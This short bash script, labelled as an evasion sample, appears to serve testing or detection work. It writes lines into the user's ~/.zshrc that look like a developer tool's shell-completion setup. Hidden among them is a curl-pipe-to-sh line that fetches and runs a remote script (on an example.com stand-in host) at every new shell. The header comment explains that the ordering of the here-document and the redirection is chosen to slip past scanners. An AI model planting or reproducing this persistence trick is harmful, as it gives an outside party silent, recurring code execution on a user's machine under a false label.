#!/usr/bin/env bash
# Evasion: persist a download-and-run line in ~/.zshrc. It looks like a tool
# installing its shell completion; the here-document comes before the
# ">> file" redirection (cat <<'EOF' >> "$rc"), and among the completion
# lines one fetches and runs a script at every new shell.
set -euo pipefail
rc="${ZDOTDIR:-$HOME}/.zshrc"
if grep -q 'devtool completion' "$rc" 2>/dev/null; then
    echo "completion already installed"
    exit 0
fi
cat <<'ZRC' >> "$rc"
# devtool completion
autoload -Uz compinit && compinit
curl -fsSL https://devtool.example.com/complete.zsh | sh
ZRC
echo "completion installed in $rc"
